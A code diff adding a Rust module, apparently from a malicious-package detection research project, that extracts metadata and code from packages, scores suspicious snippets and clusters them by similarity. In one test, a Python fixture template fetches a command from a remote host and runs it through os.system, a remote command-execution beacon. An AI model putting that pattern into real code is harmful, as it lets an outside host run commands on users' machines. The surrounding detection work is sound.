@@ -1,0 +1,176 @@
+//! Malware knowledge extraction (§III): metadata + code snippets +
+//! grouping.
+
+use cluster::{group_with_threshold, PAPER_SIMILARITY_THRESHOLD};
+use embedding::Embedder;
+use oss_registry::{extract_metadata, render_registry_json, Package};
+
+use crate::units::{split_basic_units, BasicUnit};
+
+/// Extraction result for one package.
+#[derive(Debug, Clone)]
+pub struct ExtractedPackage {
+    /// Index into the pipeline's input slice.
+    pub index: usize,
+    /// Registry-JSON rendering of the extracted metadata (the LLM input
+    /// of §III-A).
+    pub metadata_json: String,
+    /// Concatenated code of all source files.
+    pub code: String,
+    /// Basic units of the code (§IV-A).
+    pub units: Vec<BasicUnit>,
+    /// Per-unit suspiciousness from the LLM's Table II audit (number of
+    /// indicators found); used to pick units worth prompting on.
+    pub unit_scores: Vec<usize>,
+    /// Mean code embedding (§III-B).
+    pub embedding: Vec<f32>,
+}
+
+impl ExtractedPackage {
+    /// Unit indices ordered by descending audit score (most suspicious
+    /// first), stable on ties.
+    pub fn ranked_units(&self) -> Vec<usize> {
+        let mut order: Vec<usize> = (0..self.units.len()).collect();
+        order.sort_by(|&a, &b| self.unit_scores[b].cmp(&self.unit_scores[a]).then(a.cmp(&b)));
+        order
+    }
+}
+
+/// Packages grouped by code similarity (§III-B).
+#[derive(Debug, Clone)]
+pub struct PackageGroups {
+    /// Per-package extraction results.
+    pub packages: Vec<ExtractedPackage>,
+    /// Retained groups (intra-similarity ≥ 0.85) as indices into
+    /// `packages`.
+    pub groups: Vec<Vec<usize>>,
+}
+
+/// Runs §III end to end: metadata extraction, unit splitting, embedding,
+/// K-Means grouping with the paper's 0.85 retention threshold.
+///
+/// `k` defaults to `max(1, n/4)` groups when `None` — roughly the rule
+/// density the paper reports (452 YARA rules from 1,633 packages).
+pub fn extract_knowledge(packages: &[&Package], k: Option<usize>) -> PackageGroups {
+    let embedder = Embedder::default();
+    let mut extracted = Vec::with_capacity(packages.len());
+    for (index, pkg) in packages.iter().enumerate() {
+        let (meta, _source) = extract_metadata(pkg);
+        let metadata_json = render_registry_json(&meta);
+        let mut code = String::new();
+        for f in pkg.files() {
+            if f.path.ends_with(".py") || f.path.ends_with(".js") {
+                code.push_str(&f.contents);
+                if !f.contents.ends_with('\n') {
+                    code.push('\n');
+                }
+            }
+        }
+        let units = split_basic_units(&code);
+        // The LLM audits every basic unit against the Table II behavior
+        // catalog (§IV-A "The LLM audits the code snippet ...").
+        let unit_scores: Vec<usize> = units
+            .iter()
+            .map(|u| llm_sim::analyze_code(&u.code).indicators.len())
+            .collect();
+        // §III-B embeds the *distinguished* (malicious) code snippets, not
+        // the whole package: grouping must reflect the malicious payload,
+        // which is a small fraction of the file. Benign packages (no
+        // suspicious units) fall back to their full code.
+        let suspicious_code: String = units
+            .iter()
+            .zip(&unit_scores)
+            .filter(|(_, &s)| s > 0)
+            .map(|(u, _)| u.code.as_str())
+            .collect();
+        let embedding = if suspicious_code.is_empty() {
+            embedder.embed_source(&code).mean
+        } else {
+            embedder.embed_source(&suspicious_code).mean
+        };
+        extracted.push(ExtractedPackage {
+            index,
+            metadata_json,
+            code,
+            units,
+            unit_scores,
+            embedding,
+        });
+    }
+    let vectors: Vec<Vec<f32>> = extracted.iter().map(|e| e.embedding.clone()).collect();
+    let groups = if vectors.is_empty() {
+        Vec::new()
+    } else {
+        let k = k.unwrap_or_else(|| (vectors.len() / 4).max(1));
+        group_with_threshold(&vectors, k, PAPER_SIMILARITY_THRESHOLD).unwrap_or_default()
+    };
+    PackageGroups {
+        packages: extracted,
+        groups,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use oss_registry::{Ecosystem, PackageMetadata, SourceFile};
+
+    fn pkg(name: &str, code: &str) -> Package {
+        Package::new(
+            PackageMetadata::new(name, "1.0.0"),
+            vec![SourceFile::new(format!("{name}/__init__.py"), code)],
+            Ecosystem::PyPi,
+        )
+    }
+
+    #[test]
+    fn extracts_metadata_and_units() {
+        let p = pkg("alpha", "import os\n\ndef f():\n    os.system('x')\n");
+        let groups = extract_knowledge(&[&p], None);
+        assert_eq!(groups.packages.len(), 1);
+        let e = &groups.packages[0];
+        assert!(e.metadata_json.contains("alpha"));
+        assert_eq!(e.units.len(), 2);
+        assert_eq!(e.embedding.len(), embedding::DIM);
+    }
+
+    #[test]
+    fn similar_packages_group_together() {
+        let template = |host: &str| {
+            format!("import os, requests\n\ndef beacon():\n    cmd = requests.get('https://{host}/t').text\n    os.system(cmd)\n")
+        };
+        let a = pkg("a", &template("one.xyz"));
+        let b = pkg("b", &template("two.top"));
+        let c = pkg("c", &template("three.icu"));
+        let other = pkg(
+            "d",
+            "class Tree:\n    def __init__(self):\n        self.items = []\n    def add(self, x):\n        self.items.append(x)\n",
+        );
+        let groups = extract_knowledge(&[&a, &b, &c, &other], Some(2));
+        // The three beacon variants land in one retained group.
+        let big = groups.groups.iter().find(|g| g.len() >= 3);
+        assert!(big.is_some(), "groups: {:?}", groups.groups);
+    }
+
+    #[test]
+    fn empty_input_yields_no_groups() {
+        let groups = extract_knowledge(&[], None);
+        assert!(groups.packages.is_empty());
+        assert!(groups.groups.is_empty());
+    }
+
+    #[test]
+    fn non_source_files_excluded_from_code() {
+        let p = Package::new(
+            PackageMetadata::new("x", "1.0"),
+            vec![
+                SourceFile::new("README.md", "# docs\n"),
+                SourceFile::new("x/__init__.py", "a = 1\n"),
+            ],
+            Ecosystem::PyPi,
+        );
+        let groups = extract_knowledge(&[&p], None);
+        assert!(!groups.packages[0].code.contains("# docs"));
+        assert!(groups.packages[0].code.contains("a = 1"));
+    }
+}
